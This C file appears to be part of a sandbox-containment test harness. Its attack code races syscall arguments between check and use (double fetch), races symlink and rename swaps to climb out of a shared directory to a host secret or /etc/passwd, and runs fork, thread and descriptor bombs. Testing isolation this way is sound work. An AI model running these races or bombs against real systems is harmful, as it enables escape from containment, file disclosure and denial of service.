/* races ATTACK: what a call was given changes while the call is made. Numbers in memory between a check and their use; names between a look and the next. */
#include "attack.h"
#include <poll.h>
#include <sys/epoll.h>

static volatile int is_over;
static char secret_path[512];
enum { ROUNDS = 3000, PATH_ROUNDS = 600 };

/* Pointers and lengths change between a good and a bad one all the time. */
struct request {
    struct iovec parts[4];
    struct msghdr message;
    struct sockaddr_un address;
    struct timespec time;
    struct pollfd polled[4];
    char path[64];
    uint64_t clone_args[11];
    char control[64];
};
static struct request *request;

static void *shake(void *argument) {
    uint64_t state = (uint64_t)argument | 1;
    const uint64_t BAD[] = {0, (uint64_t)read_only, (uint64_t)edge - 1, 0xFFFF800000000000, STUB, CHANNEL, -1, 1UL << 62, 1024, 1025, 0x7FFFFFFF};
    while (!is_over) {
        request->parts[next(&state) % 4].iov_len = next(&state) % 3 ? next(&state) % 5000 : BAD[next(&state) % COUNT(BAD)];
        request->parts[next(&state) % 4].iov_base = next(&state) % 3 ? area + next(&state) % 30000 : (void *)BAD[next(&state) % COUNT(BAD)];
        request->message.msg_iovlen = next(&state) % 3 ? 4 : BAD[next(&state) % COUNT(BAD)];
        request->message.msg_controllen = next(&state) % 3 ? 64 : BAD[next(&state) % COUNT(BAD)];
        request->message.msg_namelen = next(&state) % 3 ? sizeof request->address : (unsigned)BAD[next(&state) % COUNT(BAD)];
        *(uint64_t *)request->control = next(&state) % 2 ? 24 : BAD[next(&state) % COUNT(BAD)];
        *(uint32_t *)(request->control + 16) = (uint32_t)next(&state) % 70;
        request->polled[next(&state) % 4].fd = (int)next(&state) % 20;
        memcpy(request->path, next(&state) % 2 ? "/etc/passwd\0" : "/etc/passwdxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx", 60);
        request->clone_args[next(&state) % 11] = BAD[next(&state) % COUNT(BAD)];
    }
    return argument;
}

static void fetched_twice(void *argument) {
    uint64_t state = *(uint64_t *)argument * 0x9E3779B97F4A7C15 | 1;
    int local[2], ends[2], zero = open("/dev/zero", O_RDWR), poller = epoll_create1(0);
    request = map(sizeof *request + PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE);
    request->address = (struct sockaddr_un){.sun_family = AF_UNIX, .sun_path = "/tmp/x"};
    request->message = (struct msghdr){&request->address, sizeof request->address, request->parts, 4, request->control, 64, 0};
    *(uint64_t *)request->control = 24, *(uint32_t *)(request->control + 8) = SOL_SOCKET, *(uint32_t *)(request->control + 12) = SCM_RIGHTS;
    socketpair(AF_UNIX, SOCK_DGRAM | SOCK_NONBLOCK, 0, local), pipe2(ends, O_NONBLOCK);
    pthread_t thread;
    pthread_create(&thread, 0, shake, (void *)next(&state));
    for (int round = 0; round < ROUNDS; round++) {
        readv(zero, request->parts, 4), writev(ends[1], request->parts, 4), readv(ends[0], request->parts, 4);
        sendmsg(local[0], &request->message, MSG_DONTWAIT), recvmsg(local[1], &request->message, MSG_DONTWAIT);
        syscall(SYS_process_vm_readv, getpid(), request->parts, 4, request->parts, 4, 0);
        poll(request->polled, 4, 0), epoll_ctl(poller, EPOLL_CTL_ADD, ends[0], (void *)request->polled);
        close(open(request->path, O_RDONLY)), access(request->path, 0);
        syscall(SYS_openat2, AT_FDCWD, request->path, request->clone_args, 24);
        bind(local[0], (void *)&request->address, request->message.msg_namelen);
        syscall(SYS_vmsplice, ends[1], request->parts, 4, 2);
        shared->at++;
    }
    is_over = 1;
    shared->answered++;
}

static void double_fetch(void) {
    for (uint64_t seed = 1; seed <= 2; seed++)
        attempt(fetched_twice, &seed, 3000);
}

/* Names change below a walk: a directory is a link to the host's secret and back, is exchanged, is moved out of where the walk is. /shared is the host's. */
static void *swap_names(void *argument) {
    (void)argument;
    for (int round = 0; !is_over; round++) {
        syscall(SYS_renameat2, AT_FDCWD, "/shared/race/a", AT_FDCWD, "/shared/race/link", 2); /* RENAME_EXCHANGE */
        rename("/shared/race/deep/x/y", "/shared/race/y"), rename("/shared/race/y", "/shared/race/deep/x/y");
        unlink("/shared/race/file"), symlink(round % 2 ? secret_path : "../../../../../../../../etc/passwd", "/shared/race/file");
        unlink("/shared/race/file"), close(open("/shared/race/file", O_CREAT | O_WRONLY, 0600));
    }
    return argument;
}

static void look_into(int fd) {
    char text[256];
    if (fd < 0)
        return;
    ssize_t len = read(fd, text, sizeof text - 1);
    text[len < 0 ? 0 : len] = 0;
    shared->wrong += strstr(text, "the host's own words") != 0;
    shared->answered++;
    close(fd);
}

static void raced(void *argument) {
    (void)argument;
    char climbing[512] = "", again[768];
    for (int depth = 0; depth < 30; depth++)
        strcat(climbing, "../");
    mkdir("/shared/race", 0700), mkdir("/shared/race/a", 0700), mkdir("/shared/race/deep", 0700), mkdir("/shared/race/deep/x", 0700), mkdir("/shared/race/deep/x/y", 0700);
    /* The link's target and the directory's file have the same last name. */
    char *directory = strdup(secret_path), *name = strrchr(directory, '/');
    *name++ = 0;
    symlink(directory, "/shared/race/link");
    snprintf(again, sizeof again, "/shared/race/a/%s", name);
    close(open(again, O_CREAT | O_WRONLY, 0600));
    pthread_t thread;
    for (int each = 0; each < 2; each++)
        pthread_create(&thread, 0, swap_names, 0);
    for (int round = 0; round < PATH_ROUNDS; round++) {
        look_into(open(again, O_RDONLY)), look_into(open("/shared/race/file", O_RDONLY)), look_into(open("/shared/race/file", O_RDWR | O_CREAT, 0600));
        int deep = open("/shared/race/deep/x/y", O_PATH | O_DIRECTORY);
        char up[2048];
        snprintf(up, sizeof up, "%s%s", climbing, secret_path + 1);
        look_into(openat(deep, up, O_RDONLY));
        look_into(openat(deep, "../../../../../secret", O_RDONLY)), look_into(openat(deep, "../../../../secret", O_RDONLY)), look_into(openat(deep, "../../../secret", O_RDONLY));
        snprintf(up, sizeof up, "/proc/self/fd/%d/%s%s", deep, climbing, secret_path + 1);
        look_into(open(up, O_RDONLY));
        if (fchdir(deep) == 0)
            look_into(open(up + strlen("/proc/self/fd/"), O_RDONLY)), look_into(open(climbing, O_RDONLY)), chdir("/");
        close(deep);
        look_into(open("/proc/1/root/../secret", O_RDONLY)), look_into(open("/proc/self/cwd/../../secret", O_RDONLY));
        link("/shared/race/file", "/shared/race/hard"), look_into(open("/shared/race/hard", O_RDONLY)), unlink("/shared/race/hard");
        shared->at++;
    }
    is_over = 1;
}

static void paths(void) {
    FILE *told = fopen("/shared/secret-path", "r");
    if (!told || !fgets(secret_path, sizeof secret_path, told))
        shared->wrong++;
    else
        attempt(raced, 0, 5000);
}

/* Bombs: as many of everything as one gets. */
static void *wait_forever(void *argument) {
    for (;;)
        pause();
    return argument;
}

static void threads_bomb(void *argument) {
    (void)argument;
    pthread_attr_t attributes;
    pthread_attr_init(&attributes), pthread_attr_setstacksize(&attributes, 16384);
    pthread_t thread;
    for (int count = 0; count < 1000 && pthread_create(&thread, &attributes, wait_forever, 0) == 0; count++)
        shared->at++, shared->answered++;
}

static void forks_bomb(void *argument) {
    (void)argument;
    for (int depth = 0; depth < 400; depth++) {
        pid_t child = fork();
        shared->at++;
        if (child < 0)
            break;
        shared->answered++;
        if (child == 0 && depth % 2)
            for (;;)
                pause();
    }
}

static void descriptors_bomb(void *argument) {
    (void)argument;
    int ends[2];
    while (shared->answered < 30000 && pipe(ends) == 0 && dup(ends[0]) >= 0)
        shared->at++, shared->answered++;
}

static void descriptors_in_flight(void *argument) {
    (void)argument;
    int pair[2], carried = open("/dev/null", O_RDONLY);
    socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0, pair);
    for (int count = 0; count < 2000; count++) {
        char control[CMSG_SPACE(2 * sizeof(int))] = "", byte = 0;
        struct iovec part = {&byte, 1};
        struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
        struct cmsghdr *header = CMSG_FIRSTHDR(&message);
        header->cmsg_level = SOL_SOCKET, header->cmsg_type = SCM_RIGHTS, header->cmsg_len = CMSG_LEN(2 * sizeof(int));
        memcpy(CMSG_DATA(header), (int[]){pair[0], pair[1]}, 2 * sizeof(int)); /* a circle of sockets in their own queues */
        if (sendmsg(pair[0], &message, MSG_DONTWAIT) < 0) {
            close(pair[0]), close(pair[1]);
            socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0, pair);
        }
        shared->at++, shared->answered++;
    }
    close(carried);
}

static void bombs(void) {
    attempt(threads_bomb, 0, 2000), end_all();
    attempt(forks_bomb, 0, 2000), end_all();
    shared->answered = 0;
    attempt(descriptors_bomb, 0, 2000), end_all();
    attempt(descriptors_in_flight, 0, 2000), end_all();
}

int main(int argc, char **argv) {
    static const struct attack ATTACKS[] = {{"fetch", double_fetch}, {"paths", paths}, {"bombs", bombs}};
    return argc < 2 ? 2 : run_attack(ATTACKS, COUNT(ATTACKS), argv[1]);
}
